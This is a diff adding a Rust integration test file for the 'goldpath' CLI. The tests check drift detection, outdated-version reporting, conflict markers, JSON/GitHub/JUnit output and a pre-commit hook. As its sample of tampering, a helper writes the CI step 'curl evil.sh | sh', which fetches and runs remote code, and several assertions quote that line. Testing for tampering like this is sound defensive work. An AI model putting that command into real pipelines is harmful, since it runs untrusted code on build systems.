@@ -1,0 +1,344 @@
+//! `goldpath check`, `goldpath diff` and `goldpath hooks install` on real repos.
+
+use crate::sandbox::*;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// A project made from the newest version (2.0.0), committed.
+fn up_to_date(s: &Sandbox) -> PathBuf {
+    let url = s.bundle_repo();
+    let out = s.goldpath(
+        s.tmp.path(),
+        &[
+            "new",
+            "svc",
+            "orders-api",
+            "--from",
+            &url,
+            "--defaults",
+            "--set",
+            "service_name=orders-api",
+            "--no-input",
+        ],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    s.path("orders-api")
+}
+
+fn drift_pipeline(p: &Path) {
+    fs::write(
+        p.join("ci/pipeline.yml"),
+        "steps:\n  - run: cargo test --locked\n  - run: curl evil.sh | sh\n",
+    )
+    .unwrap();
+}
+
+#[test]
+fn a_clean_project_passes() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(
+        stdout(&out).starts_with("svc 2.0.0 (file://")
+            && stdout(&out).ends_with("): 9 files checked, ok\n"),
+        "{}",
+        stdout(&out)
+    );
+}
+
+#[test]
+fn an_outdated_project_fails_with_how_far_behind() {
+    let s = Sandbox::new();
+    let url = s.bundle_repo();
+    let p = s.project(&url);
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains("error: outdated: svc 2.0.0 is available; this project is on 1.0.0 (1 version behind, a major version: read its changelog first). Run `goldpath upgrade`."),
+        "{}",
+        stdout(&out)
+    );
+    // Outdated is not a failure when not asked for.
+    let out = s.goldpath(&p, &["check", "--fail-on", "drift,conflict-markers"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
+    assert!(stdout(&out).contains("note: outdated"), "{}", stdout(&out));
+}
+
+#[test]
+fn a_drifted_locked_file_fails_with_a_diff_and_a_fix() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    drift_pipeline(&p);
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(1));
+    let text = stdout(&out);
+    assert!(text.contains("error: drift: ci/pipeline.yml is owned by the golden path svc 2.0.0 (locked) and was changed by hand. Restore it with `goldpath diff ci/pipeline.yml | git apply -R`"), "{text}");
+    assert!(
+        text.contains("    --- a/ci/pipeline.yml\n    +++ b/ci/pipeline.yml\n")
+            && text.contains("    +  - run: curl evil.sh | sh\n"),
+        "{text}"
+    );
+    // The fix the message gives works.
+    let diff = s.goldpath(&p, &["diff", "ci/pipeline.yml"]);
+    assert!(diff.status.success());
+    let patch = p.join("fix.patch");
+    fs::write(&patch, &diff.stdout).unwrap();
+    git(&p, &["apply", "-R", "fix.patch"]);
+    fs::remove_file(&patch).unwrap();
+    assert_eq!(s.goldpath(&p, &["check"]).status.code(), Some(0));
+}
+
+#[test]
+fn a_deleted_locked_file_is_drift() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    fs::remove_file(p.join("ci/pipeline.yml")).unwrap();
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        stdout(&out).contains(
+            "ci/pipeline.yml is owned by the golden path svc 2.0.0 (locked) and was deleted."
+        ),
+        "{}",
+        stdout(&out)
+    );
+}
+
+#[test]
+fn customised_merge_files_are_reported_not_failed() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    fs::write(p.join("chart/values.yaml"), "replicaCount: 9\n").unwrap();
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(0));
+    assert!(
+        stdout(&out)
+            .contains("note: customised (merged on upgrade, your changes kept): chart/values.yaml"),
+        "{}",
+        stdout(&out)
+    );
+    let out = s.goldpath(&p, &["check", "--fail-on", "customised"]);
+    assert_eq!(out.status.code(), Some(1));
+    // Seed files are the team's: never reported.
+    fs::write(p.join("src/main.rs"), "fn main() {}\n").unwrap();
+    assert!(!stdout(&s.goldpath(&p, &["check"])).contains("src/main.rs"));
+}
+
+#[test]
+fn leftover_conflict_markers_fail() {
+    let s = Sandbox::new();
+    let url = s.bundle_repo();
+    let p = s.project(&url);
+    s.edit_and_commit(&p, |p| {
+        fs::write(p.join("ci/pipeline.yml"), "steps:\n  - run: make\n").unwrap()
+    });
+    let out = s.goldpath(&p, &["upgrade", "--defaults", "--no-input"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let out = s.goldpath(&p, &["check", "--fail-on", "conflict-markers"]);
+    assert_eq!(out.status.code(), Some(1));
+    let text = stdout(&out);
+    assert!(
+        text.contains("error: an upgrade to 2.0.0 stopped on conflicts"),
+        "{text}"
+    );
+    assert!(
+        text.contains("error: conflict markers: ci/pipeline.yml still holds conflict markers."),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_corrupt_answers_file_is_an_error_naming_it() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    let text = read(&p.join(".goldpath.toml")).replace("version = \"2.0.0\"", "version = \"two\"");
+    fs::write(p.join(".goldpath.toml"), text).unwrap();
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(2));
+    let err = stderr(&out);
+    assert!(
+        err.starts_with("error: ")
+            && err.contains(".goldpath.toml:6: ")
+            && err.contains("git checkout -- "),
+        "{err}"
+    );
+    fs::remove_file(p.join(".goldpath.toml")).unwrap();
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        stderr(&out)
+            .contains(".goldpath.toml: not found: this folder was not made by `goldpath new`"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+#[test]
+fn an_unreachable_source_is_a_clear_error() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    fs::remove_dir_all(s.path("templates")).unwrap();
+    let out = s.goldpath(&p, &["check"]);
+    assert_eq!(out.status.code(), Some(2));
+    let err = stderr(&out);
+    assert!(
+        err.contains("cannot read the versions of svc from file://")
+            && err.contains("hint: check the network"),
+        "{err}"
+    );
+}
+
+#[test]
+fn json_matches_its_documented_schema() {
+    let s = Sandbox::new();
+    let url = s.bundle_repo();
+    let p = s.project(&url);
+    drift_pipeline(&p);
+    fs::write(p.join("chart/values.yaml"), "replicaCount: 9\n").unwrap();
+    let out = s.goldpath(&p, &["check", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(1));
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let schema: serde_json::Value = serde_json::from_str(
+        &fs::read_to_string(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/docs/check-report.schema.json"
+        ))
+        .unwrap(),
+    )
+    .unwrap();
+    let validator = jsonschema::validator_for(&schema).unwrap();
+    let errors: Vec<String> = validator
+        .iter_errors(&report)
+        .map(|e| e.to_string())
+        .collect();
+    assert!(errors.is_empty(), "{errors:#?}\n{report:#}");
+    assert_eq!(report["outdated"]["behind"], 1);
+    assert_eq!(report["drift"][0]["path"], "ci/pipeline.yml");
+    assert_eq!(report["customised"][0], "chart/values.yaml");
+    assert_eq!(
+        report["findings"],
+        serde_json::json!(["outdated", "drift", "customised"])
+    );
+    assert_eq!(report["failed"], true);
+    // Deterministic: the same bytes every run.
+    assert_eq!(
+        s.goldpath(&p, &["check", "--format", "json"]).stdout,
+        out.stdout
+    );
+}
+
+#[test]
+fn github_format_annotates_files() {
+    let s = Sandbox::new();
+    let url = s.bundle_repo();
+    let p = s.project(&url);
+    drift_pipeline(&p);
+    let out = s.goldpath(&p, &["check", "--format", "github"]);
+    assert_eq!(out.status.code(), Some(1));
+    let lines: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
+    assert!(
+        lines[0].starts_with(
+            "::error file=.goldpath.toml,title=goldpath%3A outdated::svc 2.0.0 is available"
+        ),
+        "{lines:#?}"
+    );
+    assert!(lines[1].starts_with("::error file=ci/pipeline.yml,title=goldpath%3A locked file drifted::ci/pipeline.yml is owned"), "{lines:#?}");
+    assert!(
+        lines[1].contains("%0A%0A--- a/ci/pipeline.yml%0A+++ b/ci/pipeline.yml%0A"),
+        "{lines:#?}"
+    );
+    assert_eq!(lines.len(), 3, "{lines:#?}");
+}
+
+#[test]
+fn junit_parses_back_with_one_failure_per_problem() {
+    let s = Sandbox::new();
+    let url = s.bundle_repo();
+    let p = s.project(&url);
+    drift_pipeline(&p);
+    let out = s.goldpath(&p, &["check", "--format", "junit"]);
+    assert_eq!(out.status.code(), Some(1));
+    let xml = stdout(&out);
+    let doc = roxmltree::Document::parse(&xml).unwrap();
+    let suites = doc.root_element();
+    assert_eq!(suites.tag_name().name(), "testsuites");
+    assert_eq!(suites.attribute("failures"), Some("2"));
+    let failures: Vec<(String, String)> = doc
+        .descendants()
+        .filter(|n| n.has_tag_name("failure"))
+        .map(|f| {
+            (
+                f.parent().unwrap().attribute("name").unwrap().to_string(),
+                f.attribute("type").unwrap().to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        failures,
+        [
+            (
+                "1.0.0 is the newest version of svc".to_string(),
+                "outdated".to_string()
+            ),
+            ("ci/pipeline.yml".to_string(), "drift".to_string())
+        ]
+    );
+    let diff = doc
+        .descendants()
+        .find(|n| n.has_tag_name("failure") && n.attribute("type") == Some("drift"))
+        .unwrap()
+        .text()
+        .unwrap();
+    assert!(diff.contains("+  - run: curl evil.sh | sh"), "{diff}");
+}
+
+#[test]
+fn the_pre_commit_hook_refuses_drift() {
+    let s = Sandbox::new();
+    let p = up_to_date(&s);
+    let out = s.goldpath(&p, &["hooks", "install"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let hook = p.join(".git/hooks/pre-commit");
+    assert!(read(&hook).contains("goldpath check --fail-on drift,conflict-markers"));
+    drift_pipeline(&p);
+    git(&p, &["add", "-A"]);
+    let bin_dir = Path::new(env!("CARGO_BIN_EXE_goldpath")).parent().unwrap();
+    let path = format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap());
+    let commit = std::process::Command::new("git")
+        .args([
+            "-c",
+            "user.name=Dev",
+            "-c",
+            "user.email=d@example.com",
+            "commit",
+            "-qm",
+            "sneaky",
+        ])
+        .current_dir(&p)
+        .env("PATH", path)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .unwrap();
+    assert!(!commit.status.success(), "the hook must refuse the commit");
+    // git sends a hook's output to stderr.
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&commit.stdout),
+        String::from_utf8_lossy(&commit.stderr)
+    );
+    assert!(
+        said.contains("ci/pipeline.yml is owned by the golden path"),
+        "{said}"
+    );
+    // An existing hook that is not ours is not replaced without --force.
+    fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
+    let out = s.goldpath(&p, &["hooks", "install"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        stderr(&out).contains("already exists and was not written by goldpath"),
+        "{}",
+        stderr(&out)
+    );
+}
